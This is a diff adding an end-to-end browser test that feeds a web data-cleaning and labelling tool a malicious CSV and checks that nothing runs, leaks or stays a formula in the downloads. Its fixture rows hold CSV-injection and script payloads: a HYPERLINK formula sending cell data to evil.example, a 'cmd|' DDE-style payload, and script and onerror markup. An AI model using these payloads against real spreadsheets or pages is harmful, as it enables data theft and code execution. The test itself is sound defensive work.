@@ -10,7 +10,9 @@ import assert from "node:assert/strict";
 import { execFileSync } from "node:child_process";
 import { cpSync, mkdirSync, readFileSync, truncateSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
-import { DRUGS, MODELS, REPO, SAVANT, TINY, TINY_FILES, download, expectError, noError, openPage, shot, start, stop } from "./harness.mjs";
+import { DRUGS, MODELS, REPO, SAVANT, TINY, TINY_FILES, download, expectError, noError, openPage, pageUrl, shot, start, stop, storedByThePage } from "./harness.mjs";
+import { readdirSync } from "node:fs";
+import { DIST } from "./serve.mjs";
 
 const OUT = join(REPO, "target/e2e/prepare");
 
@@ -256,3 +258,94 @@ test("choose an encoder: the vocabulary that covers the domain ranks first, with
   await shot(page, join(dir, "probe.png"));
   await context.close();
 });
+
+// Cells starting with = + - @ (or a tab) in a CSV written by Python's csv module: what a
+// spreadsheet would run. Checked on the page's downloads.
+const FORMULA_CELLS = `
+import csv, sys
+bad = [c for row in csv.reader(open(sys.argv[1], newline="", encoding="utf-8")) for c in row if c[:1] in ("=", "+", "-", "@", "\t")]
+print(len(bad))
+`;
+
+test("a malicious CSV runs no script, reaches no server, and leaves no formula in the downloads", async () => {
+  const dir = join(OUT, "malicious");
+  mkdirSync(dir, { recursive: true });
+  const evil = join(dir, "evil.csv");
+  const rows = [
+    ["=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"click me\")", "billing"],
+    ["<script>window.__pwned = 'script'</script> my card was charged twice", "fraud"],
+    ["<img src=x onerror=\"window.__pwned = 'img'\"> a late fee again", "billing"],
+    ["+cmd|' /C calc'!A0 refund please", "other"],
+    ["@SUM(1+1) is what I was billed", "billing"],
+    ["-2+3 dollars were taken from my account", "fraud"],
+    ["\t=1+2 a tab before the formula", "other"],
+    ["an ordinary question about my statement", "other"],
+  ];
+  const quote = (c) => `"${c.replaceAll('"', '""')}"`;
+  writeFileSync(evil, "text,label\n" + rows.map((r) => r.map(quote).join(",")).join("\n") + "\n");
+  const { context, page, requests, logs } = await openPage();
+  await page.setInputFiles("#data-file", evil);
+  await page.waitForSelector("#preview table");
+  await page.selectOption("#text-col", "text");
+  await page.selectOption("#label-col", "label");
+  await page.selectOption("#dedup", "none");
+  await page.uncheck("#redact");
+  await page.click("#clean-btn");
+  await page.waitForSelector("#clean-report table");
+  await noError(page, logs);
+  const cleaned = join(dir, "cleaned.csv");
+  await download(page, page.locator("#clean-download"), cleaned);
+
+  // Label every row and export: the texts are shown, never run.
+  await page.fill("#ann-labels", "billing, fraud, other");
+  await page.click("#ann-start-btn");
+  await page.waitForSelector("#ann-box:not([hidden])");
+  await page.locator("#ann-card").focus();
+  for (let i = 0; i < rows.length; i++) {
+    assert.match(await page.locator("#ann-text").textContent(), /\S/);
+    await page.keyboard.press(String(1 + (i % 3)));
+  }
+  const exported = join(dir, "evil.labelled.csv");
+  await download(page, page.locator("#ann-export-csv"), exported);
+  await noError(page, logs);
+  await page.waitForTimeout(500); // an onerror handler would have run by now
+  assert.equal(await page.evaluate(() => window.__pwned ?? null), null, "markup in the data ran");
+  assert.equal(await page.locator("#ann-card img, #preview img, #ann-card script, #preview script").count(), 0);
+
+  // The downloads: every formula cell written as text; savant clean --spreadsheet-safe agrees.
+  for (const f of [cleaned, exported]) {
+    assert.equal(execFileSync("python3", ["-c", FORMULA_CELLS, f], { encoding: "utf8" }).trim(), "0", `${f} keeps a formula`);
+  }
+  assert.match(readFileSync(cleaned, "utf8"), /"'=HYPERLINK\(""http:\/\/evil\.example/);
+  const cli = join(dir, "cli.csv");
+  execFileSync(SAVANT, ["clean", evil, "--text", "text", "--label", "label", "--dedup", "none", "--spreadsheet-safe", "-o", cli, "--quiet"]);
+  assert.ok(readFileSync(cleaned).equals(readFileSync(cli)), "the page's download differs from savant clean --spreadsheet-safe");
+
+  // No request but same-origin GETs of the page's own files (the <img src=x> fetched nothing).
+  const own = new Set(listFiles(DIST).map((f) => "/" + f));
+  own.add("/");
+  const outside = requests.filter((r) => {
+    if (r.url.startsWith("blob:") || r.url.startsWith("data:")) return false;
+    const u = new URL(r.url);
+    return r.method !== "GET" || u.origin !== new URL(pageUrl()).origin || !own.has(u.pathname);
+  });
+  assert.deepEqual(outside, [], "requests other than same-origin GETs of the page's files");
+  // Stored: the labelling work the user asked for, and nothing else.
+  assert.deepEqual(await storedByThePage(page, context), {
+    cookies: 0,
+    local: 0,
+    session: 0,
+    caches: [],
+    databases: ["savant-annotate"],
+  });
+  await context.close();
+});
+
+function listFiles(dir) {
+  const out = [];
+  for (const e of readdirSync(dir, { withFileTypes: true })) {
+    if (e.isDirectory()) out.push(...listFiles(join(dir, e.name)).map((f) => `${e.name}/${f}`));
+    else out.push(e.name);
+  }
+  return out;
+}
